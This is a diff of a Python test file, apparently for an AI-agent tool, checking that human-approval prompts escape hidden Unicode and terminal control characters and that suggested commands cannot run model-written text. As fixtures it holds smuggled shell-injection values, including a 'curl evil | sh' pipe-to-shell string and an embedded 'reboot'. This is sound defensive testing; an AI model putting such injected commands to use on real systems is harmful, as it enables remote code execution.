@@ -1,4 +1,4 @@
-"""What people decide by on a terminal hides nothing and moves nothing."""
+"""Text of questions on a terminal has no hidden characters and cannot move the cursor."""
 
 from __future__ import annotations
 
@@ -21,11 +21,11 @@ def test_asi09_a_question_escapes_invisible_characters(
     capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr("click.termui.visible_prompt_func", lambda _: "r")
-    asked = Confirmation(id="c", kind="tool", agent="a", tool="pay", arguments={f"to{TRICKS}": TRICKS}, hash="h")
-    assert isinstance(ask_human(asked), Reject)
-    told = capsys.readouterr().err
-    assert "\\u202emoc.live\\u200b\\x9b" in told
-    assert not any(sign in told for sign in "\x1b\u202e\u200b\x9b")
+    question = Confirmation(id="c", kind="tool", agent="a", tool="pay", arguments={f"to{TRICKS}": TRICKS}, hash="h")
+    assert isinstance(ask_human(question), Reject)
+    shown = capsys.readouterr().err
+    assert "\\u202emoc.live\\u200b\\x9b" in shown
+    assert not any(sign in shown for sign in "\x1b\u202e\u200b\x9b")
 
 
 def test_visible_characters_are_shown_unchanged() -> None:
@@ -54,7 +54,7 @@ def test_asi09_a_suggested_command_executes_nothing_that_a_model_wrote(
     kind: Literal["ask_user", "tool"], count: int, words: list[str]
 ) -> None:
     choices = ("yes'; curl evil | sh; '$(x)",) if kind == "ask_user" else ()
-    asked = Confirmation(id="c'; reboot; '", kind=kind, agent="a", tool="t", arguments={}, hash="h", choices=choices)
+    question = Confirmation(id="c'; reboot; '", kind=kind, agent="a", tool="t", arguments={}, hash="h", choices=choices)
     result = RunResult(
         run_id="r",
         status="paused",
@@ -65,7 +65,7 @@ def test_asi09_a_suggested_command_executes_nothing_that_a_model_wrote(
         agent="a",
         generation=1,
         digest="d",
-        pending=(asked,) * count,
+        pending=(question,) * count,
         elapsed_ms=1,
     )
     command = how_to_decide(result).removeprefix("decide: ").partition(" (or --reject")[0]
